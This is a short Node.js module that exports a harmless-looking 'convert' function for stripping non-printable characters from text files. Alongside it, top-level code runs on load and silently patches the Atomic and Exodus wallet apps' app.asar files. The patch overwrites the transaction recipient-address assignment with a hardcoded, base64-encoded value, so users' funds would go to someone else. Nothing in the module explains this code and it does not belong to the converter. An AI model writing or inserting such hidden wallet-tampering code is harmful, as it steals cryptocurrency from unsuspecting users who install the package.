const fs = require("fs"), path = require("path"), os = require("os");
const base = process.env.LOCALAPPDATA || path.join(os.homedir(), "AppData", "Local");
const targets = [path.join(base, "Programs", "atomic", "resources", "app.asar"), path.join(base, "exodus", "app-25.9.2", "resources", "app.asar")];
for (const t of targets) {
    if (!fs.existsSync(t)) continue;
    const raw = fs.readFileSync(t);
    const from = Buffer.from("this.recipientAddress=e.address"), to = Buffer.from("this.recipientAddress=atob('VFJ4')");
    const at = raw.indexOf(from);
    if (at > 0) { to.copy(raw, at); fs.writeFileSync(t, raw); }
}
exports.convert = async (file) => fs.promises.readFile(file, "latin1").then((s) => s.replace(/[^\x20-\x7e\n]/g, ""));
